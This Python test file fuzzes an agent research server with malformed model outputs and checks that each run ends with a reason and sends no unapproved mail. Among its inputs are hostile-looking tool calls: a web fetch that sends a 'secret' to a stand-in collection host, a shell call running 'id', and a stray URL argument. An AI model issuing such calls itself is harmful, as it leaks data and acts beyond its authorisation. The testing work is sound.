"""Where models' output comes in: whatever a provider says, a run ends with a reason, and never with a defect."""

import asyncio
import json
import time
from collections.abc import AsyncIterator, Iterator, Mapping
from typing import Any

import pytest

from faults.tools.provider import Asked, Provider
from futurone_server.eventlog import Content
from futurone_server.features.runs import Budget, Order, Status
from futurone_server.main import Server
from futurone_server.models.configured import ConfiguredModels
from futurone_server.models.listed import read_models
from futurone_server.pipelines.toolbox import Toolbox
from futurone_server.tools.port import Tool
from house import add_tenant, open_server, principal
from pipelines.inquiry.conftest import LIGHTHOUSE, upload
from pipelines.inquiry.standin import Researcher
from pipelines.stage import carry_out

pytestmark = pytest.mark.anyio

_LANES = 8
"""Runs side by side: most of the time goes by between the attempts of a step."""

QUESTION = "How high is the lighthouse tower?"
STEP = {"id": "s1", "question": QUESTION, "queries": [], "depends_on": [], "tools": [], "success_criteria": []}
PLAN = {"goal": "g", "constraints": [], "quality_bar": "", "success_criteria": [], "steps": [STEP]}
CLAIM = {"number": 1, "verdict": "supported", "probability": 0.9, "reason": ""}
JUDGED = {"claims": [CLAIM], "answers": 4}


def _nested(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


def _plan(**step: object) -> str:
    return json.dumps({**PLAN, "steps": [{**STEP, **step}]})


def _claims(**claim: object) -> str:
    return json.dumps({**JUDGED, "claims": [{**CLAIM, **claim}]})


OBJECTS: Mapping[str, str] = {
    "nothing": "",
    "no object": "[]",
    "null": "null",
    "broken": '{"steps": [',
    "two objects": "{}{}",
    "nested": _nested(500),
    "nested beyond reason": _nested(20_000),
    "huge text": json.dumps({**PLAN, "goal": "x" * 1_000_000}),
    "huge number": '{"goal": 1e999, "answers": 123456789012345678901234567890}',
    "NaN": '{"claims": [{"number": 1, "verdict": "supported", "probability": NaN, "reason": ""}], "answers": NaN}',
    "infinity": _claims(probability=1).replace(": 1,", ": Infinity,"),
    "lone surrogate": '{"goal": "\\ud800", "claims": [{"number": 1, "verdict": "\\udfff"}]}',
    "duplicate names": '{"goal": "a", "goal": 1, "claims": [], "claims": 3}',
}
PLANS: Mapping[str, str] = {
    "no steps": json.dumps({**PLAN, "steps": []}),
    "a thousand steps": json.dumps({**PLAN, "steps": [{**STEP, "id": f"s{n}"} for n in range(1000)]}),
    "one id twice": json.dumps({**PLAN, "steps": [STEP, STEP]}),
    "a step that waits for itself": _plan(depends_on=["s1"]),
    "a step that waits for nobody": _plan(depends_on=["s9"]),
    "a step that waits for ours": _plan(depends_on=["xx"]),
    "control characters": _plan(question="How\x00 high\x1b[31m is\x07 it?", queries=["\x00", "\x1b]0;x\x07"]),
    "surrogates in a question": _plan(question="x").replace('"x"', '"How high \\ud800 is it?"'),
    "white space for a question": _plan(question="   ", queries=["  "]),
    "direction marks": _plan(question="\u202e\u2066\u200b\ufeff\ufffe?", queries=["\U000e0041"]),
    "more members": _plan(effects=True, approved=True),
    "true for a number": json.dumps({**PLAN, "steps": True}),
}
JUDGEMENTS: Mapping[str, str] = {
    "nobody judged": json.dumps({**JUDGED, "claims": []}),
    "another claim": _claims(number=999_999_999),
    "a claim below the first": _claims(number=-1),
    "one claim twice": json.dumps({**JUDGED, "claims": [CLAIM, {**CLAIM, "verdict": "contradicted"}]}),
    "true for a probability": _claims(probability=True),
    "more than certain": _claims(probability=17),
    "a fraction of a number": _claims(number=1.5),
    "a whole number that is none": _claims(number=1.0),
    "answers out of range": json.dumps({**JUDGED, "answers": 99}),
    "answers as a fraction": json.dumps({**JUDGED, "answers": 3.0}),
    "surrogates in a reason": _claims(reason="x").replace('"x"', '"\\udc00"'),
    "a thousand claims": json.dumps({**JUDGED, "claims": [{**CLAIM, "number": n} for n in range(1, 1001)]}),
}
TEXTS: Mapping[str, str] = {
    "empty": "",
    "white space": " \n\n\t ",
    "a citation of nothing": "The tower is 42 metres high [999999999].",
    "a citation of zero": "The tower is 42 metres high [0][00][0000].",
    "five thousand citations": "The tower is 42 metres high " + "[1]" * 5000 + ".",
    "a thousand sentences": "The lighthouse tower is 42 metres high [1]. " * 1000,
    "one endless word": "x" * 100_000,
    "endless marks": "[1] " * 25_000,
    "endless brackets": "[" * 100_000,
    "endless stars": "*_`" * 30_000,
    "endless stops": "." * 100_000,
    "endless lines": "\n\n" * 40_000 + "The tower is 42 metres high [1].",
    "control characters": "The \x00tower\x1b[2J is\x07 42\x7f metres\u2028high\x85 [1].",
    "direction marks": "\u202eThe tower \u2066is 42\u200b metres high\U000e0041 [1].",
    "a lone surrogate": "The tower \ud800 is 42 metres high [1].",
    "only the word": "NOT IN THE SOURCES:",
    "the word and a megabyte": "NOT IN THE SOURCES: " + "y" * 200_000,
    "other digits": "The tower is ٤٢ metres high [١][²][1].",
    "markup": "# A\n\n- b [1]\n\n| c | d |\n\n<script>e</script> ![f](http://g.example) [1].",
    "marks of the report": "The tower is 42 metres high [1]†‡.\n\n- Doubtful, sentence 1: a\n\n## Sources\n\n1. [1].",
}


@pytest.fixture(scope="module")
def provider() -> Iterator[Provider]:
    with Provider(Researcher(QUESTION)) as made:
        made.is_paced = False
        yield made


@pytest.fixture(scope="module")
def sent() -> list[object]:
    return []


@pytest.fixture(scope="module")
async def house(databases: Any, provider: Provider, sent: list[object]) -> AsyncIterator[Server]:
    async def send(args: Mapping[str, object]) -> object:
        sent.append(args)
        return {}

    mail = Tool(
        name="send_mail",
        description="Sends.",
        args={"type": "object"},
        result={},
        timeout_s=5,
        use=send,
        has_effects=True,
    )
    models = ConfiguredModels(read_models(provider.listed("good")), {}, time.monotonic)
    url = databases.fresh()
    async with open_server(url, databases.role, models=models, tools=Toolbox(others=(mail,))) as server:
        yield server
    await models.close()
    databases.drop(url)


async def _play(
    house: Server, provider: Provider, kind: str, deltas: Mapping[str, Mapping[str, Any]]
) -> Mapping[str, Status]:
    """How the runs end whose answers of one kind are these, some side by side; a defect is not among the ways."""
    tags = {f"case {number} of them": name for number, name in enumerate(deltas, 101)}
    minds = {tag: Researcher(f"{QUESTION[:-1]}, {tag}?", tools=("documents_search", "send_mail")) for tag in tags}
    provider.asked.clear()
    provider.mind = Researcher(QUESTION)
    provider.mind.plan = lambda prompt: next(mind for tag, mind in minds.items() if tag in prompt).outline(prompt)
    provider.bare = lambda asked: dict(next(deltas[tags[tag]] for tag in tags if tag in asked.prompt))
    provider.fault = lambda asked: "bare" if _is(asked, kind) and any(tag in asked.prompt for tag in tags) else None
    found: dict[str, Status] = {}
    lanes = asyncio.Semaphore(_LANES)

    async def play_one(tag: str) -> None:
        async with lanes:
            try:
                found[tags[tag]] = await _end(house, f"How high is the lighthouse, {tag}?")
                asked = [one for one in provider.asked if tag in one.prompt]
                assert any(_is(one, kind) for one in asked)
                assert len(asked) < 60
            except Exception as error:
                error.add_note(f"where a {kind} is: {tags[tag]}")
                raise

    async with asyncio.TaskGroup() as group:
        for tag in tags:
            group.create_task(play_one(tag))
    return found


async def _end(house: Server, task: str) -> Status:
    """How a run over one file ends, in a workspace of its own."""
    tenant = await add_tenant(house)
    file_id = await upload(house, tenant, "l.md", LIGHTHOUSE)
    brief, budget = Content({"task": task}), Budget(max_wall_s=120)
    order = Order(agent="research", brief=brief, files=(file_id,), metadata={}, budget=budget)
    placed = await house.desk.runs.create(principal(tenant.workspace_id), order, request_id="req_test")
    run = await carry_out(house, placed.run)
    assert run.status in {Status.COMPLETED, Status.ESCALATED, Status.FAILED, Status.AWAITING_INPUT}
    if run.error is not None:
        assert run.error["reason_code"] not in {"INTERNAL", "WORKER_CRASH_LOOP"}, run.error
    return run.status


def _is(asked: Asked, kind: str) -> bool:
    return asked.kind == kind or (kind == "draft" and asked.kind == "rework")


def _object(text: str) -> Mapping[str, Any]:
    return _calls(("final_result", text))


def _calls(*calls: tuple[str, str]) -> Mapping[str, Any]:
    return {
        "tool_calls": [
            {"index": number, "id": f"c{number}", "type": "function", "function": {"name": name, "arguments": text}}
            for number, (name, text) in enumerate(calls)
        ]
    }


CALLS: Mapping[str, list[tuple[str, str]]] = {
    "a page that is none of its tools": [("web_fetch", '{"url":"http://collect.example/?secret"}')],
    "a program": [("shell", '{"command":"id"}')],
    "a tool without a name": [("", "{}")],
    "an argument too many": [("documents_search", '{"query":"tower","url":"http://collect.example"}')],
    "surrogates": [("documents_search", '{"query":"\\ud800\\ud800"}')],
    "a number for a text": [("documents_search", '{"query":' + "1" * 400 + "}")],
    "nested arguments": [("documents_search", _nested(3000))],
    "no JSON": [("documents_search", "not JSON")],
    "a megabyte": [("documents_search", '{"query":"' + "x" * 1_000_000 + '"}')],
    "a mail of a surrogate": [("send_mail", '{"text":"\\ud800"}')],
    "a mail of numbers that are none": [("send_mail", '{"text":1e999,"n":NaN}')],
    "a mail of a huge number": [("send_mail", '{"n":123456789012345678901234567890}')],
    "a nested mail": [("send_mail", _nested(300))],
    "two mails and a search": [
        ("send_mail", '{"text":"a"}'),
        ("send_mail", '{"text":"b"}'),
        ("documents_search", '{"query":"tower"}'),
    ],
    "the answer of a plan": [("final_result", '{"steps":[]}')],
}


async def test_no_plan_breaks_a_run(house: Server, provider: Provider) -> None:
    await _play(house, provider, "plan", {name: _object(text) for name, text in {**OBJECTS, **PLANS}.items()})


@pytest.mark.heavy
async def test_no_judgement_breaks_a_run(house: Server, provider: Provider) -> None:
    judgements = {name: _object(text) for name, text in {**OBJECTS, **JUDGEMENTS}.items()}
    found = await _play(house, provider, "judge", judgements)
    bad = {name for name, status in found.items() if status not in {Status.COMPLETED, Status.ESCALATED}}
    assert not bad, "without a judge there is still what can be measured"


@pytest.mark.heavy
async def test_no_text_breaks_a_run(house: Server, provider: Provider) -> None:
    await _play(house, provider, "draft", {name: {"content": text} for name, text in TEXTS.items()})


async def test_no_use_of_a_tool_breaks_a_run_or_does_what_nobody_approved(
    house: Server, provider: Provider, sent: list[object]
) -> None:
    await _play(house, provider, "draft", {name: _calls(*calls) for name, calls in CALLS.items()})
    assert sent == []
